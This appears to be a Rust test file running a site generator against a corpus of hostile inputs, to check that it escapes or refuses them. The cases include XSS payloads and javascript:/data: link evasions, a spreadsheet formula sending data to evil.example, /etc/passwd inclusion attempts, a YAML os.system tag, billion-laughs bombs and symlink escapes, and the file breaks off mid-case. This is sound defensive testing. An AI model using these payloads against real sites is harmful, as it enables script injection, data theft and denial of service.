//! The hostile-input corpus: every kind of bad input a public body's site could be fed — script
//! injection in every field and in Markdown, script and data links, comments and CDATA, huge
//! files, YAML bombs, broken encodings, symbolic links out of the site, odd file names and
//! recommendation numbers — run through the real binary (`check`, then `build`).
//!
//! Every case either builds safely or fails with a diagnostic: never a panic (exit 101 or
//! "panicked"), never unescaped markup in the output, never a file written outside the output
//! folder or a source file changed, never more than [`TIME_LIMIT`] per case. The cases are one
//! table ([`cases`]); `docs/reliability.md` reports how many there are per class.
//!
//! Fixed inputs live in `tests/fixtures/hostile/` (Markdown and YAML kept as files so they can
//! be read and reused); the huge ones, the ones with NUL bytes or invalid UTF-8 and those that
//! need symbolic links are made here.

mod common;
#[path = "../fuzz/common/html_scan.rs"]
mod html_scan;

use common::{example_root, tree, Run, Severity, Site};
use html_scan::Mode;
use std::collections::BTreeMap;
use std::path::Path;
use std::time::{Duration, Instant};

/// How long one case (a `check` and a `build` of the debug binary) may take.
const TIME_LIMIT: Duration = Duration::from_secs(20);

/// The number of cases `docs/reliability.md` reports; change both together.
const DOCUMENTED_CASES: usize = 154;

const REVIEW: &str = "content/town-centre/_review.md";
const THEME: &str = "content/town-centre/themes/public-realm.md";
const RECS: &str = "content/town-centre/recommendations";
/// The file most cases write: recommendation 3 of the `minimal` fixture's review.
const HOSTILE: &str = "content/town-centre/recommendations/03-hostile.md";
/// Where recommendation 3's page is published.
const PAGE3: &str = "public/town-centre/recommendations/3/index.html";

/// Script, markup and template injection in one line: each part breaks out of a different
/// context (element text, a quoted or unquoted attribute, `<title>`, `<textarea>`, `<style>`,
/// `<script>`, XML CDATA, a template).
const PAYLOAD: &str = r#"<script>alert("xss")</script><img src=x onerror=alert(1)>"><svg/onload=alert(1)>'><body onload=alert(1)> <a href="javascript:alert(1)">j</a> </title></textarea></style></script><!-- --> ]]> {{ site.title }} {% include "/etc/passwd" %}"#;

/// Text that means a hostile value escaped into markup: never in any output file.
const RAW_MARKERS: &[&str] = &[
    "<script>alert",
    "<svg/onload",
    "<img src=x onerror",
    "<body onload",
];

/// Text in a theme outside the site.
const SECRET_THEME: &str = "TOP-SECRET-THEME-OUTSIDE-THE-SITE";

/// The first line of /etc/passwd: proof that a file outside the site was read.
const PASSWD: &str = "root:x:0:0";

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
enum Class {
    /// Script, event-handler and template injection in every front-matter field.
    FieldInjection,
    /// Script in Markdown: raw HTML, event handlers, script and data links in every spelling.
    MarkdownInjection,
    /// Script and data addresses in evidence links (`updates[].links[].url`).
    EvidenceLinks,
    /// HTML comments, CDATA, processing instructions.
    CommentsAndCdata,
    /// A 10 MB body, 1 MB lines, thousands of updates and keys.
    Size,
    /// Deep nesting, alias bombs ("billion laughs"), tags, merge keys.
    YamlBombs,
    /// NUL bytes, invalid UTF-8, UTF-16, byte-order marks, CRLF and CR line endings.
    Encoding,
    /// Symbolic links out of the site, loops, dangling links.
    Symlinks,
    /// File and folder names with spaces, non-ASCII, markup, newlines, invalid UTF-8.
    FileNames,
    /// Recommendation numbers that look like paths or markup.
    Numbers,
    /// Hostile `site.yaml` values.
    SiteConfig,
}

#[derive(Debug, Clone)]
enum Expect {
    /// `build` exits 0 and everything it wrote is safe.
    Builds,
    /// `check` and `build` exit 1 with an error located in `file` whose message contains
    /// `message`, and nothing is published.
    Fails { file: String, message: &'static str },
}

type Setup = Box<dyn Fn(&Site, &Path) + Send + Sync>;

struct Case {
    class: Class,
    name: String,
    /// Writes the hostile input into the site (the second argument is a folder outside it).
    setup: Setup,
    expect: Expect,
    /// Output files (under the site) that must exist when the case builds.
    pages: Vec<String>,
    /// (output file, text) the page must show, as visible text.
    shows: Vec<(String, String)>,
    /// Text that must appear in no output file and in no diagnostic.
    never: Vec<String>,
}

impl Case {
    fn new(
        class: Class,
        name: impl Into<String>,
        setup: impl Fn(&Site, &Path) + Send + Sync + 'static,
    ) -> Case {
        Case {
            class,
            name: name.into(),
            setup: Box::new(setup),
            expect: Expect::Builds,
            pages: Vec::new(),
            shows: Vec::new(),
            never: vec![PASSWD.to_string()],
        }
    }

    fn fails(mut self, file: impl Into<String>, message: &'static str) -> Case {
        self.expect = Expect::Fails {
            file: file.into(),
            message,
        };
        self
    }

    fn page(mut self, page: impl Into<String>) -> Case {
        self.pages.push(page.into());
        self
    }

    fn shows(mut self, page: impl Into<String>, text: impl Into<String>) -> Case {
        self.shows.push((page.into(), text.into()));
        self
    }

    fn never(mut self, text: impl Into<String>) -> Case {
        self.never.push(text.into());
        self
    }
}

// ---------------------------------------------------------------------------------------------
// Building hostile files

/// The text of `tests/fixtures/hostile/<name>`.
fn fixture(name: &str) -> String {
    let p = example_root().join("tests/fixtures/hostile").join(name);
    std::fs::read_to_string(&p).unwrap_or_else(|e| panic!("read {}: {e}", p.display()))
}

/// `value` as a YAML block scalar (`|-`) indented by `indent` spaces: any text, unquoted.
fn block(value: &str, indent: usize) -> String {
    let pad = " ".repeat(indent);
    let mut out = String::from("|-");
    for line in value.split('\n') {
        out.push('\n');
        out.push_str(&pad);
        out.push_str(line);
    }
    out
}

/// The fields of the valid recommendation 3 that cases overwrite; each value is YAML text.
fn rec_fields() -> BTreeMap<&'static str, String> {
    [
        ("number", "3"),
        ("title", "Safer crossings"),
        (
            "recommendation",
            "|\n  That the Council add crossings near the station.",
        ),
        ("theme", "public-realm"),
        ("cabinet_member", "Cabinet Member for Transport"),
        ("lead_officer", "Head of Highways"),
        ("financial_impact", "Within budget."),
        ("decision", "accepted"),
        ("status", "in-progress"),
        ("due", "2027-01"),
        ("timetable", "Spring 2027"),
        ("update_date", "2026-11-01"),
        ("note", "Surveys have started."),
        ("link_title", "Minutes"),
        ("url", "https://example.org/minutes.pdf"),
    ]
    .into_iter()
    .map(|(k, v)| (k, v.to_string()))
    .collect()
}

/// Recommendation 3 with `overrides` (field → YAML value text) and `body`.
fn rec(overrides: &[(&str, String)], body: &str) -> String {
    let mut f = rec_fields();
    for (k, v) in overrides {
        assert!(f.contains_key(k), "no field {k}");
        f.insert(k, v.clone());
    }
    format!(
        "---\nnumber: {}\ntitle: {}\nrecommendation: {}\ntheme: {}\ncabinet_members:\n  - {}\nlead_officers:\n  - {}\nfinancial_impact: {}\ndecision: {}\nstatus: {}\ndue: {}\ntimetable: {}\nupdates:\n  - date: {}\n    status: in-progress\n    note: {}\n    links:\n      - title: {}\n        url: {}\n---\n{body}",
        f["number"],
        f["title"],
        f["recommendation"],
        f["theme"],
        f["cabinet_member"],
        f["lead_officer"],
        f["financial_impact"],
        f["decision"],
        f["status"],
        f["due"],
        f["timetable"],
        f["update_date"],
        f["note"],
        f["link_title"],
        f["url"],
    )
}

/// Recommendation 3 with default fields and `body`.
fn rec_body(body: &str) -> String {
    rec(&[], body)
}

/// A case that writes recommendation 3 with `field` set to [`PAYLOAD`] (indented for its place).
fn field_case(field: &'static str, indent: usize) -> Case {
    Case::new(
        Class::FieldInjection,
        format!("recommendation `{field}`"),
        move |s, _| {
            s.write(
                HOSTILE,
                rec(&[(field, block(PAYLOAD, indent))], "Response."),
            );
        },
    )
    .page(PAGE3)
}

/// A case writing `body` as recommendation 3's Markdown response.
fn markdown_case(name: &str, body: impl Into<String>) -> Case {
    let body = body.into();
    Case::new(Class::MarkdownInjection, name, move |s, _| {
        s.write(HOSTILE, rec_body(&body));
    })
    .page(PAGE3)
}

/// A case whose evidence link `url` (YAML text) must be refused.
fn refused_link(name: &str, url: &str) -> Case {
    let url = url.to_string();
    Case::new(Class::EvidenceLinks, name, move |s, _| {
        s.write(HOSTILE, rec(&[("url", url.clone())], "Response."));
    })
    .fails(HOSTILE, "is not a web address")
}

/// Replace `from` in the fixture's `rel` with `to` (text).
fn edit(s: &Site, rel: &str, from: &str, to: &str) {
    s.edit(rel, from, to);
}

/// Billion laughs: nine levels of nine aliases (387,420,489 "lol"s if expanded).
fn laughs(indent: &str) -> String {
    let mut text = format!(
        "{indent}a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
    );
    for (name, p) in ["b", "c", "d", "e", "f", "g", "h", "i"]
        .iter()
        .zip(["a", "b", "c", "d", "e", "f", "g", "h"])
    {
        text.push_str(&format!(
            "{indent}{name}: &{name} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n"
        ));
    }
    text
}

#[cfg(unix)]
fn symlink(target: impl AsRef<Path>, link: &Path) {
    std::fs::create_dir_all(link.parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(target, link)
        .unwrap_or_else(|e| panic!("symlink {}: {e}", link.display()));
}

/// A valid recommendation file carrying `secret` (placed outside the site by symlink cases).
fn secret_rec(number: u32, secret: &str) -> String {
    rec(
        &[
            ("number", number.to_string()),
            ("title", secret.to_string()),
        ],
        &format!("{secret}\n"),
    )
}

// ---------------------------------------------------------------------------------------------
// The table

fn cases() -> Vec<Case> {
    let mut v = Vec::new();
    use Class::*;

    // --- Script, event-handler and template injection in every field -------------------------
    for (field, indent) in [
        ("title", 2),
        ("recommendation", 2),
        ("cabinet_member", 4),
        ("lead_officer", 4),
        ("financial_impact", 2),
        ("timetable", 2),
        ("note", 6),
        ("link_title", 10),
    ] {
        v.push(field_case(field, indent));
    }
    v.push(Case::new(
        FieldInjection,
        "recommendation `number`",
        |s, _| {
            s.write(HOSTILE, rec(&[("number", block(PAYLOAD, 2))], "Response."));
        },
    ));
    for (field, indent, message) in [
        ("theme", 2, "theme `"),
        ("status", 2, "unknown status"),
        ("decision", 2, "unknown decision"),
        ("due", 2, "invalid date"),
        ("update_date", 6, "invalid date"),
    ] {
        v.push(
            Case::new(
                FieldInjection,
                format!("recommendation `{field}` (refused)"),
                move |s, _| {
                    s.write(
                        HOSTILE,
                        rec(&[(field, block(PAYLOAD, indent))], "Response."),
                    );
                },
            )
            .fails(HOSTILE, message),
        );
    }
    for field in ["title", "committee", "reported_to", "summary"] {
        v.push(
            Case::new(FieldInjection, format!("review `{field}`"), move |s, _| {
                let text = s.read(REVIEW);
                let line = text
                    .lines()
                    .find(|l| l.starts_with(&format!("{field}:")))
                    .unwrap()
                    .to_string();
                s.write(
                    REVIEW,
                    text.replacen(&line, &format!("{field}: {}", block(PAYLOAD, 2)), 1),
                );
            })
            .page("public/town-centre/index.html"),
        );
    }
    v.push(
        Case::new(FieldInjection, "review `date` (refused)", |s, _| {
            edit(
                s,
                REVIEW,
                "date: 2026-09",
                &format!("date: {}", block(PAYLOAD, 2)),
            );
        })
        .fails(REVIEW, "invalid date"),
    );
    for field in ["title", "outcome"] {
        v.push(Case::new(
            FieldInjection,
            format!("theme `{field}`"),
            move |s, _| {
                let text = s.read(THEME);
                let line = text
                    .lines()
                    .find(|l| l.starts_with(&format!("{field}:")))
                    .unwrap()
                    .to_string();
                s.write(
                    THEME,
                    text.replacen(&line, &format!("{field}: {}", block(PAYLOAD, 2)), 1),
                );
            },
        ));
    }
    v.push(
        Case::new(FieldInjection, "every field and body at once", |s, _| {
            let all: Vec<(&str, String)> = [
                ("title", 2),
                ("recommendation", 2),
                ("cabinet_member", 4),
                ("lead_officer", 4),
                ("financial_impact", 2),
                ("timetable", 2),
                ("note", 6),
                ("link_title", 10),
            ]
            .into_iter()
            .map(|(f, i)| (f, block(PAYLOAD, i)))
            .collect();
            s.write(HOSTILE, rec(&all, &fixture("markdown-injection.md")));
            edit(
                s,
                REVIEW,
                "title: Town Centre",
                &format!("title: {}", block(PAYLOAD, 2)),
            );
            edit(
                s,
                THEME,
                "title: Public Realm",
                &format!("title: {}", block(PAYLOAD, 2)),
            );
            s.write(
                &format!("{RECS}/01-street-lighting.md"),
                s.read(&format!("{RECS}/01-street-lighting.md")).replacen(
                    "The lighting",
                    &format!("{PAYLOAD}\n\nThe lighting"),
                    1,
                ),
            );
        })
        .page(PAGE3),
    );
    v.push(
        Case::new(
            FieldInjection,
            "template syntax is shown, not run",
            |s, _| {
                s.write(
                    HOSTILE,
                    rec(
                        &[(
                            "title",
                            "'{{ site.title }} {% include \"/etc/passwd\" %}'".into(),
                        )],
                        "{{ 7 * 7 }}\n",
                    ),
                );
            },
        )
        .shows(PAGE3, "{{ site.title }} {% include \"/etc/passwd\" %}")
        .shows(PAGE3, "{{ 7 * 7 }}"),
    );
    v.push(Case::new(
        FieldInjection,
        "CSV formula in every text field",
        |s, _| {
            let formula = "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")'".to_string();
            let fields: Vec<(&str, String)> = [
                "title",
                "financial_impact",
                "timetable",
                "cabinet_member",
                "lead_officer",
            ]
            .into_iter()
            .map(|f| (f, formula.clone()))
            .collect();
            s.write(HOSTILE, rec(&fields, "=1+1\n"));
        },
    ));

    // --- Markdown ----------------------------------------------------------------------------
    v.push(markdown_case(
        "every Markdown vector at once (fixture)",
        fixture("markdown-injection.md"),
    ));
    for (name, body) in [
        ("raw <script>", "<script>alert(1)</script>"),
        ("<script> split over lines", "<scr\nipt>alert(1)</script>"),
        ("<SCRIPT> upper case", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
        ("event handler on raw HTML", "<img src=x onerror=alert(1)> <div onmouseover=\"alert(1)\">x</div>"),
        ("event handler after a slash", "<svg/onload=alert(1)> <a/onclick=alert(1)>x</a>"),
        ("iframe, object, embed", "<iframe src=\"javascript:alert(1)\"></iframe><object data=\"x.swf\"></object><embed src=\"x.swf\">"),
        ("form and formaction", "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button></form>"),
        ("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
        ("base href", "<base href=\"javascript:alert(1)//\">"),
        ("style tag and attribute", "<style>body{display:none}</style><p style=\"background:url(javascript:alert(1))\">x</p>"),
        ("mutation XSS (math/mglyph)", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        ("javascript: link", "[x](javascript:alert(1))"),
        ("javascript: mixed case", "[x](JaVaScRiPt:alert(1))"),
        ("javascript: hex entity", "[x](jav&#x61;script:alert(1))"),
        ("javascript: decimal entity", "[x](&#106;avascript:alert(1))"),
        ("javascript: entity without ;", "[x](&#106avascript:alert(1))"),
        ("javascript: &colon; entity", "[x](javascript&colon;alert(1))"),
        ("javascript: tab entity inside", "[x](java&#09;script:alert(1))"),
        ("javascript: newline entity inside", "[x](java&#10;script:alert(1))"),
        ("javascript: space-prefixed", "[x]( javascript:alert(1))"),
        ("javascript: tab-prefixed", "[x](<\tjavascript:alert(1)>)"),
        ("javascript: control-character prefixed", "[x](\u{1}javascript:alert(1))"),
        ("javascript: NUL prefixed", "[x](\0javascript:alert(1))"),
        ("javascript: angle-bracket destination", "[x](<javascript:alert(1)>)"),
        ("javascript: autolink", "<javascript:alert(1)>"),
        ("javascript: reference link", "[x][r]\n\n[r]: javascript:alert(1)"),
        ("javascript: image", "![x](javascript:alert(1))"),
        ("vbscript: link", "[x](vbscript:msgbox(1))"),
        ("data: text/html link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
        ("data: mixed case", "[x](DaTa:text/html,<script>alert(1)</script>)"),
        ("data: SVG image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
        ("quote breaking out of href", "[x](https://example.org/\" onmouseover=\"alert(1))"),
        ("quote breaking out of title", "[x](https://example.org/ \"t\\\" onmouseover=\\\"alert(1)\")"),
        ("autolinked www with quotes", "www.example.org/\"onmouseover=\"alert(1)\""),
        ("footnote label and text", "x[^a]\n\n[^a]: <script>alert(1)</script> [y](javascript:alert(1))"),
        ("table cell", "| a | b |\n|---|---|\n| <b onclick=alert(1)>1</b> | [l](javascript:alert(1)) |"),
        ("code span and fence", "`</code><script>alert(1)</script>`\n\n```html\n</pre><script>alert(1)</script>\n```"),
        ("heading", "# <script>alert(1)</script>\n\nSetext <img src=x onerror=alert(1)>\n==="),
    ] {
        v.push(markdown_case(name, body));
    }
    v.push(
        Case::new(MarkdownInjection, "review and theme bodies", |s, _| {
            let md = fixture("markdown-injection.md");
            s.write(REVIEW, format!("{}\n{md}", s.read(REVIEW)));
            s.write(THEME, format!("{}\n{md}", s.read(THEME)));
        })
        .page("public/town-centre/index.html"),
    );
    v.push(
        Case::new(MarkdownInjection, "update note", |s, _| {
            s.write(
                HOSTILE,
                rec(
                    &[("note", block(&fixture("markdown-injection.md"), 6))],
                    "Response.",
                ),
            );
        })
        .page(PAGE3),
    );

    // --- Evidence links ------------------------------------------------------------------------
    for (name, url) in [
        ("javascript:", "javascript:alert(1)"),
        ("JavaScript: with leading space", "\" JavaScript:alert(1)\""),
        ("javascript: tab-prefixed", "\"\\tjavascript:alert(1)\""),
        (
            "javascript: control-character prefixed",
            "\"\\x01javascript:alert(1)\"",
        ),
        ("javascript: entity-encoded", "\"jav&#x61;script:alert(1)\""),
        ("vbscript:", "vbscript:msgbox(1)"),
        ("data:", "\"data:text/html,<script>alert(1)</script>\""),
        ("protocol-relative", "//evil.example/x"),
        ("file:", "file:///etc/passwd"),
    ] {
        v.push(refused_link(name, url));
    }
    v.push(
        Case::new(EvidenceLinks, "https: with quotes and markup (escaped)", |s, _| {
            s.write(HOSTILE, rec(&[("url", "'https://example.org/?q=\"><script>alert(1)</script>&x=\" onmouseover=\"alert(1)'".into())], "Response."));
        })
        .page(PAGE3),
    );

    // --- Comments and CDATA ---------------------------------------------------------------------
    for (name, body) in [
        (
            "HTML comment hiding a script",
            "<!-- <script>alert(1)</script> -->",
        ),
        ("abrupt comment", "<!--><script>alert(1)</script>-->"),
        ("unclosed comment", "<!-- <script>alert(1)</script>"),
        ("CDATA section", "<![CDATA[<script>alert(1)</script>]]>"),
        (
            "processing instruction and doctype",
            "<?php echo 1; ?><!DOCTYPE html><?xml-stylesheet href=\"javascript:alert(1)\"?>",
        ),
        (
            "conditional comment",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
        ),
    ] {
        let body = body.to_string();
        v.push(
            Case::new(CommentsAndCdata, name, move |s, _| {
                s.write(
                    HOSTILE,
                    rec(
                        &[("title", format!("'{}'", body.replace('\'', "''")))],
                        &body,
                    ),
                );
            })
            .page(PAGE3),
        );
    }
    v.push(
        Case::new(CommentsAndCdata, "CDATA end in a title (feeds)", |s, _| {
            s.write(
                HOSTILE,
                rec(
                    &[
                        ("title", "']]><script>alert(1)</script><![CDATA['".into()),
                        ("note", "']]><script>alert(1)</script>'".into()),
                    ],
                    "]]>",
                ),
            );
        })
        .page(PAGE3),
    );

    // --- Size -----------------------------------------------------------------------------------
    v.push(
        Case::new(Size, "10 MB body", |s, _| {
            let para = "The council will **review** the [lighting](https://example.org/) in every alley, car park and underpass; a survey has started.\n\n";
            let body = para.repeat(10 * 1024 * 1024 / para.len() + 1);
            assert!(body.len() >= 10 * 1024 * 1024);
            s.write(HOSTILE, rec_body(&body));
        })
        .fails(HOSTILE, "larger than the 2 MB a content file may be"),
    );
    v.push(
        Case::new(Size, "11 MB table", |s, _| {
            let row = "|a|b|c|d|e|f|g|h|\n";
            let table = format!(
                "|1|2|3|4|5|6|7|8|\n|-|-|-|-|-|-|-|-|\n{}",
                row.repeat(11 * 1024 * 1024 / row.len())
            );
            s.write(HOSTILE, rec_body(&table));
        })
        .fails(HOSTILE, "larger than the 2 MB a content file may be"),
    );
    v.push(
        Case::new(Size, "1 MB line in the body", |s, _| {
            s.write(HOSTILE, rec_body(&"word ".repeat(200 * 1024)));
        })
        .page(PAGE3),
    );
    v.push(
        Case::new(Size, "1 MB line of markup in the body", |s, _| {
            s.write(
                HOSTILE,
                rec_body(&"<b>[x](javascript:alert(1))".repeat(40 * 1024)),
            );
        })
        .page(PAGE3),
    );
    v.push(
        Case::new(Size, "1 MB title", |s, _| {
            s.write(
                HOSTILE,
                rec(&[("title", "x".repeat(1024 * 1024))], "Response."),
            );
        })
        .page(PAGE3),
    );
    v.push(
        Case::new(Size, "1 MB YAML comment line", |s, _| {
            s.write(
                HOSTILE,
                rec_body("Response.").replacen(
                    "---\n",
                    &format!("---\n# {}\n", "c".repeat(1024 * 1024)),
                    1,
                ),
            );
        })
        .page(PAGE3),
    );
    v.push(
        Case::new(Size, "10,000 updates", |s, _| {
            let mut updates = String::from("updates:\n");
            for i in 0..10_000 {
                updates.push_str(&format!("  - date: 2026-{:02}-{:02}\n    note: Update {i} <script>alert({i})</script>\n", i % 12 + 1, i % 28 + 1));
            }
            let text = rec_body("Response.");
            let start = text.find("updates:\n").unwrap();
            let end = text.rfind("---\n").unwrap();
            s.write(HOSTILE, format!("{}{updates}{}", &text[..start], &text[end..]));
        })
        .page(PAGE3),
    );
    v.push(
        Case::new(Size, "20,000 unknown keys", |s, _| {
            let keys: String = (0..20_000)
                .map(|i| format!("key_{i}: <script>alert({i})</script>\n"))
                .collect();
            s.write(
                HOSTILE,
                rec_body("Response.").replacen("---\n", &format!("---\n{keys}"), 1),
            );
        })
        .fails(HOSTILE, "unknown key"),
    );
    v.push(
        Case::new(Size, "2,000 recommendation files", |s, _| {
            for i in 10..2010 {
                s.write(
                    &format!("{RECS}/{i:04}.md"),
                    rec(&[("number", i.to_string())], "<script>alert(1)</script>"),
                );
            }
        })
        .page("public/town-centre/recommendations/2009/index.html"),
    );

    // --- YAML bombs -----------------------------------------------------------------------------
    v.push(
        Case::new(YamlBombs, "10,000 nested [", |s, _| {
            s.write(
                HOSTILE,
                format!(
                    "---\nnumber: 3\ntitle: {}{}\n---\n",
                    "[".repeat(10_000),
                    "]".repeat(10_000)
                ),
            );
        })
        .fails(HOSTILE, "invalid YAML"),
    );
    v.push(
        Case::new(YamlBombs, "10,000 nested { (unclosed)", |s, _| {
            s.write(
                HOSTILE,
                format!("---\nnumber: 3\ntitle: {}\n---\n", "{a: ".repeat(10_000)),
            );
        })
        .fails(HOSTILE, "invalid YAML"),
    );
    v.push(
        Case::new(YamlBombs, "1,000 nested block mappings", |s, _| {
            let nested: String = (0..1000)
                .map(|i| format!("{}k{i}:\n", " ".repeat(i)))
                .collect();
            s.write(
                HOSTILE,
                format!(
                    "---\nnumber: 3\ntitle: x\nrecommendation: y\nextra:\n{}---\n",
                    nested
                        .lines()
                        .map(|l| format!(" {l}\n"))
                        .collect::<String>()
                ),
            );
        })
        .fails(HOSTILE, "invalid YAML"),
    );
    v.push(
        Case::new(YamlBombs, "1,000 nested block sequences", |s, _| {
            let nested: String = (0..1000)
                .map(|i| format!("{}-\n", " ".repeat(i * 2)))
                .collect();
            s.write(
                HOSTILE,
                format!(
                    "---\nnumber: 3\ntitle: x\nrecommendation: y\nlead_officers:\n{nested}---\n"
                ),
            );
        })
        .fails(HOSTILE, ""),
    );
    v.push(
        Case::new(YamlBombs, "billion laughs (fixture)", |s, _| {
            s.write(HOSTILE, fixture("billion-laughs.md"));
        })
        .fails(HOSTILE, "invalid YAML"),
    );
    v.push(
        Case::new(YamlBombs, "billion laughs used as lead officers", |s, _| {
            s.write(
                HOSTILE,
                format!(
                    "---\n{}number: 3\ntitle: x\nrecommendation: y\nlead_officers: *i\n---\n",
                    laughs("")
                ),
            );
        })
        .fails(HOSTILE, "invalid YAML"),
    );
    v.push(
        Case::new(YamlBombs, "billion laughs in site.yaml", |s, _| {
            s.write(
                "site.yaml",
                format!("{}{}", s.read("site.yaml"), laughs("")),
            );
        })
        .fails("site.yaml", "invalid YAML"),
    );
    v.push(
        Case::new(YamlBombs, "alias of a long string, repeated", |s, _| {
            // 17 KB of YAML that expands to 10 MB of names: on one page, in the CSV, the JSON…
            let long = "y".repeat(10_000);
            let uses = "  - *l\n".repeat(1000);
            s.write(HOSTILE, format!("---\nnumber: 3\ntitle: &l {long}\nrecommendation: y\nlead_officers:\n{uses}---\n"));
        })
        .fails(HOSTILE, ""),
    );
    v.push(
        Case::new(YamlBombs, "merge key", |s, _| {
            s.write(
                HOSTILE,
                rec_body("Response.").replacen(
                    "number: 3\n",
                    "base: &b {title: merged}\n<<: *b\nnumber: 3\n",
                    1,
                ),
            );
        })
        .fails(HOSTILE, "unknown key"),
    );
    v.push(
        Case::new(YamlBombs, "python/object tag", |s, _| {
            s.write(
                HOSTILE,
                rec(
                    &[(
                        "title",
                        "!!python/object/apply:os.system [\"echo pwned > /tmp/scrutiny-pwned\"]"
                            .into(),
                    )],
                    "Response.",
                ),
            );
        })
        .fails(HOSTILE, "`title` must be"),
    );
    v.push(
        Case::new(YamlBombs, "custom tag on a scalar", |s, _| {
            s.write(
                HOSTILE,
                rec(&[("title", "!evil Tagged title".into())], "Response."),
            );
        })
        .shows(PAGE3, "Tagged title"),
    );
    v.push(
        Case::new(YamlBombs, "anchor used before it is defined", |s, _| {
            s.write(HOSTILE, rec(&[("title", "*nowhere".into())], "Response."));
        })
        .fails(HOSTILE, "invalid YAML"),
    );
    v.push(
        Case::new(
            YamlBombs,
            ".nan, .inf and a huge number as theme order",
            |s, _| {
                edit(s, THEME, "order: 1", "order: .nan");
                s.write(
                    "content/town-centre/themes/second.md",
                    "---\ntitle: Second\norder: 1e400\n---\nx\n",
                );
                s.write(
                    "content/town-centre/themes/third.md",
                    "---\ntitle: Third\norder: -.inf\n---\nx\n",
                );
            },
        )
        .fails(THEME, "`order` must be"),
    );

    // --- Encoding -------------------------------------------------------------------------------
    let bytes_case = |name: &str, rel: &'static str, bytes: Vec<u8>| {
        Case::new(Encoding, name, move |s, _| {
            s.write(rel, &bytes);
        })
    };
    v.push(
        bytes_case(
            "NUL bytes in the body",
            HOSTILE,
            rec_body("a\0b\0\0<script>\0alert(1)</script>").into_bytes(),
        )
        .page(PAGE3),
    );
    v.push(
        bytes_case(
            "NUL byte in front matter",
            HOSTILE,
            rec(&[("title", "\"a\0b\"".into())], "x").into_bytes(),
        )
        .fails(HOSTILE, "invalid YAML"),
    );
    v.push(
        bytes_case(
            "escaped NUL in a quoted title",
            HOSTILE,
            rec(
                &[("title", "\"a\\0b <script>\\0alert(1)</script>\"".into())],
                "x",
            )
            .into_bytes(),
        )
        .page(PAGE3),
    );
    let invalid = |bad: &[u8], in_body: bool| {
        let text = rec_body("Body text.");
        let at = if in_body {
            text.find("Body").unwrap()
        } else {
            text.find("Safer").unwrap()
        };
        let mut b = text.into_bytes();
        b.splice(at..at, bad.iter().copied());
        b
    };
    v.push(
        bytes_case("invalid UTF-8 in the body", HOSTILE, invalid(b"\xff", true))
            .fails(HOSTILE, "not valid UTF-8"),
    );
    v.push(
        bytes_case(
            "invalid UTF-8 in front matter",
            HOSTILE,
            invalid(b"\xe9", false),
        )
        .fails(HOSTILE, "not valid UTF-8"),
    );
    v.push(
        bytes_case(
            "overlong encoding of /",
            HOSTILE,
            invalid(b"\xc0\xaf", true),
        )
        .fails(HOSTILE, "not valid UTF-8"),
    );
    v.push(
        bytes_case(
            "UTF-16 surrogate half",
            HOSTILE,
            invalid(b"\xed\xa0\x80", true),
        )
        .fails(HOSTILE, "not valid UTF-8"),
    );
    v.push(
        bytes_case("truncated character at the end", HOSTILE, {
            let mut b = rec_body("Body").into_bytes();
            b.extend_from_slice(b"\xe2\x82");
            b
        })
        .fails(HOSTILE, "not valid UTF-8"),
    );
    v.push(
        bytes_case("UTF-16 LE file with BOM", HOSTILE, {
            let mut b = vec![0xff, 0xfe];
            for u in rec_body("Body").encode_utf16() {
                b.extend_from_slice(&u.to_le_bytes());
            }
            b
        })
        .fails(HOSTILE, "not valid UTF-8"),
    );
    v.push(
        Case::new(Encoding, "invalid UTF-8 in site.yaml", |s, _| {
            let mut b = s.read("site.yaml").into_bytes();
            b.extend_from_slice(b"description: caf\xe9\n");
            s.write("site.yaml", b);
        })
        .fails("site.yaml", "not valid UTF-8"),
    );
    v.push(
        Case::new(Encoding, "BOM and CRLF in every file", |s, _| {
            s.write(HOSTILE, rec_body("Response.\n"));
            for rel in [
                "site.yaml",
                REVIEW,
                THEME,
                &format!("{RECS}/01-street-lighting.md"),
                &format!("{RECS}/02-cctv-report.md"),
                HOSTILE,
            ] {
                let text = s.read(rel);
                s.write(rel, format!("\u{feff}{}", text.replace('\n', "\r\n")));
            }
        })
        .page(PAGE3)
        .shows(PAGE3, "Safer crossings")
        .never("\u{feff}"),
    );
    v.push(
        Case::new(Encoding, "mixed CRLF and LF", |s, _| {
            let text = rec_body("Line one\r\nLine two\nLine three\r\n");
            let mixed: String = text
                .split_inclusive('\n')
                .enumerate()
                .map(|(i, l)| {
                    if i % 2 == 0 {
                        l.replace('\n', "\r\n")
                    } else {
                        l.to_string()
                    }
                })
                .collect();
            s.write(HOSTILE, mixed.replace("\r\r\n", "\r\n"));
        })
        .page(PAGE3),
    );
    v.push(
        Case::new(
            Encoding,
            "BOM inside a value, bidi overrides, line separators",
            |s, _| {
                s.write(
                    HOSTILE,
                    rec(
                        &[(
                            "title",
                            "\"a\u{feff}b \u{202e}evil\u{202c} c\u{2028}d\u{2029}e\"".into(),
                        )],
                        "x\u{2028}<script>alert(1)</script>\u{85}",
                    ),
                );
            },
        )
        .page(PAGE3)
        .shows(PAGE3, "evil")
        .never("\u{202e}"),
    );

    // --- Symbolic links -------------------------------------------------------------------------
    const SECRET: &str = "TOP-SECRET-OUTSIDE-THE-SITE";
    v.push(
        Case::new(
            Symlinks,
            "recommendation linked to a file outside the site",
            |s, out| {
                std::fs::write(out.join("secret.md"), secret_rec(4, SECRET)).unwrap();
                symlink(
                    out.join("secret.md"),
                    &s.path().join(RECS).join("04-linked.md"),
                );
            },
        )
        .fails(format!("{RECS}/04-linked.md"), "symbolic link")
        .never(SECRET),
    );
    v.push(
        Case::new(
            Symlinks,
            "recommendations folder linked outside",
            |s, out| {
                std::fs::create_dir_all(out.join("recs")).unwrap();
